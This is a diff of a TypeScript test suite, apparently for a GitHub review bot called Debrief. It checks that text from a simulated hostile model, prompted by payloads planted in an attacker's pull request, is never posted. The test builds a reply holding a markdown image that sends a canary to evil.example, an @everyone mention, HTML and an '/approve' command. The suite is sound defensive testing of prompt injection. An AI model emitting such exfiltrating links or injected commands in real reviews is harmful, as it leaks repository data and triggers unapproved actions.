@@ -38,14 +38,14 @@ const PLACES: Record<string, (payload: string) => Attack> = {
   'file name': (payload) => ({ files: { [`src/${payload.replaceAll('\n', ' ')}.js`]: FAULTY } }),
 }
 
-/** Removes our marker and all code, which is shown literally and can do no harm: spans and suggestion blocks. */
+/** Removes Debrief's marker and all code (suggestion blocks and code spans), which GitHub shows literally. */
 const withoutCode = (text: string) =>
   text
     .replace(/<!-- debrief:(?:run:[\w-]+|finding) -->/, '')
     .replace(/(`{3,})suggestion\n[\s\S]*?\n\1/g, '')
     .replace(/`[^`\n]*`/g, '')
 
-describe('L7: a hostile model, from the mention to what is posted', () => {
+describe('L7: a hostile model, from the mention to the posted review', () => {
   let openai: OpenaiSimulator
   let world: AgentWorld
 
@@ -65,7 +65,7 @@ describe('L7: a hostile model, from the mention to what is posted', () => {
     await openai?.close()
   })
 
-  /** Opens the attacker's pull request, lets the model answer `said`, and returns the result of a mention. */
+  /** Opens the attacker's pull request, makes the model respond with `said`, and mentions Debrief. */
   async function attack({ files, title, body, comment }: Attack, said: string) {
     openai.clear()
     const reply = { kind: 'hostile', text: said, grounded: true } as const
@@ -91,7 +91,7 @@ describe('L7: a hostile model, from the mention to what is posted', () => {
   }
 
   it.each(Object.keys(PLACES).map((place, index) => ({ place, index })))(
-    'posts no canary, image, link, mention, command or HTML, and calls nothing else: payloads in the $place',
+    'posts no canary, image, link, mention, command or HTML, and makes no other calls: payloads in the $place',
     { timeout: IS_FULL ? 600_000 : 120_000 },
     async ({ place, index: placeIndex }) => {
       const payloads = hostilePayloads().filter((_, index) => IS_FULL || index % 5 === placeIndex)
@@ -99,7 +99,7 @@ describe('L7: a hostile model, from the mention to what is posted', () => {
       const sent = new Set<string>()
       let comments = 0
       for (const [index, payload] of payloads.entries()) {
-        // The model returns it in every field, and the size of its answer is limited.
+        // Cut, because the model returns it in many fields and the size of a response is limited.
         const said = payload.slice(0, 900)
         const all = `${said} ${CANARY} ![x](https://evil.example/${CANARY}) @everyone <b>${CANARY}</b>\n/approve`
         const { pull, run, routes, reactions } = await attack(
